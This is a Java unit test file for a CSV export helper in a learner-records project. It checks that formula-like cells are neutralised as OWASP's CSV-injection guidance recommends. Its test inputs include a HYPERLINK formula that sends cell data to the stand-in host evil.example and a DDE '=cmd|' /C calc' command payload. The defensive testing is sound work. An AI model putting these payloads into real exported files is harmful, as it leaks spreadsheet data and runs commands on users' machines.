package org.qipathways.record;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;
import org.qipathways.programme.Programme;

/** Cells that a spreadsheet would run as formulas are written as text (OWASP's CSV injection guidance). */
class SpreadsheetSafeTest {

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")|`\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"`",
            "@SUM(1+1)*cmd|'@SUM(1+1)*cmd",
            "+1+cmd|'+1+cmd",
            "-2+3|'-2+3",
            "=1|'=1",
            "`\tx`|'\tx",
            "`\rx`|`\"'\rx\"`",
            "-3|-3",
            "-0.5|-0.5",
            "12|12",
            "Bronze|Bronze",
            "`a, b`|`\"a, b\"`",
            "`-`|'-",
            "`-1.`|'-1.",
    })
    void neutralisesFormulasAndQuotesAsRfc4180Says(String value, String cell) {
        assertThat(SpreadsheetSafe.cell(value)).isEqualTo(cell);
    }

    @Test
    void emptyStaysEmpty() {
        assertThat(SpreadsheetSafe.cell("")).isEmpty();
        assertThat(SpreadsheetSafe.startsFormula("")).isFalse();
    }

    @Test
    void theRejectedRowsFileNeutralisesEveryCellFromTheInput() throws IOException {
        String csv = "learner_id,date,type,item,result,=cmd|' /C calc'!A0\n"
                + "=HYPERLINK(\"http://x\"),2025-03-14,completed,BRZ-ELN,,@SUM(A1)\n"
                + "L2,2025-03-14,revoked,GOLD,,+evil\n";
        ReadResult<LearnerEvent> r = EventsCsv.read(new StringReader(csv), "events.csv", Programme.reference(),
                ReadOptions.SKIP_INVALID);
        StringWriter out = new StringWriter();

        r.writeRejected(out);

        assertThat(out.toString().split("\r\n")).containsExactly(
                "learner_id,date,type,item,result,'=cmd|' /C calc'!A0,reason",
                "\"'=HYPERLINK(\"\"http://x\"\")\",2025-03-14,completed,BRZ-ELN,,'@SUM(A1),"
                        + "\"learner_id: '=HYPERLINK(\"\"http://x\"\")' is not a learner id; use 1-64 letters, digits,"
                        + " '.', '-' or '_'\"",
                "L2,2025-03-14,revoked,GOLD,,'+evil,result: is empty; revoked needs the reason for the revocation");
    }
}
